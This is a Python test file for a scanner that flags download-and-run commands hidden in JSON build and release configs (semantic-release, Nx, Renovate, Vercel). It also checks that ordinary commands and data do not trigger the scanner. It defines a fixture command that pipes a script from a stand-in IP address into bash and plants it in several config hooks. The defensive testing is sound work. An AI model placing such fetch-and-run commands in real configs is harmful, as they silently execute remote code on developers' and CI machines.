"""A JSON config's string values written as command lines, whatever the key: the tool the file
configures runs them (a release tool's ``prepareCmd``, a dependency bot's post-upgrade commands, a
monorepo runner's ``commands`` list), as YAML and TOML values already are."""

from __future__ import annotations

import json
from pathlib import Path

from behaviour_files import scan_errors

_FETCH_RUN = "curl -fsSL http://198.51.100.23/stage/prep | bash"


def test_commands_under_any_key_of_a_json_config_are_read(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            ".releaserc.json": json.dumps(
                {
                    "plugins": [
                        ["@semantic-release/exec", {"prepareCmd": _FETCH_RUN + " && echo ${nextRelease.version}"}]
                    ]
                }
            ),
            "apps/web/project.json": json.dumps(
                {"targets": {"warm": {"executor": "nx:run-commands", "options": {"commands": ["npm ci", _FETCH_RUN]}}}}
            ),
            "renovate.json": json.dumps({"postUpgradeTasks": {"commands": [_FETCH_RUN.replace("bash", "sh")]}}),
        },
    )
    assert {rel for rule, rel, _ in errors if rule == "DOWNLOAD_AND_RUN"} == {
        ".releaserc.json",
        "apps/web/project.json",
        "renovate.json",
    }


def test_a_command_under_a_known_key_is_reported_once(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"vercel.json": json.dumps({"installCommand": _FETCH_RUN})})
    assert [rule for rule, _, _ in errors] == ["DOWNLOAD_AND_RUN"]


def test_ordinary_commands_and_data_in_json_stay_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            ".releaserc.json": json.dumps(
                {
                    "plugins": [
                        ["@semantic-release/exec", {"prepareCmd": "npm version ${nextRelease.version} --no-git-tag"}]
                    ]
                }
            ),
            "apps/web/project.json": json.dumps(
                {"targets": {"lint": {"options": {"commands": ["npm run lint", "git diff --exit-code"]}}}}
            ),
            "evals/evals.json": json.dumps(
                [
                    {
                        "prompt": "Install rustup",
                        "expected": "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
                    }
                ]
            ),
            "package-lock.json": json.dumps({"packages": {"": {"name": "x"}, "note": _FETCH_RUN}}),
        },
    )
    assert not errors
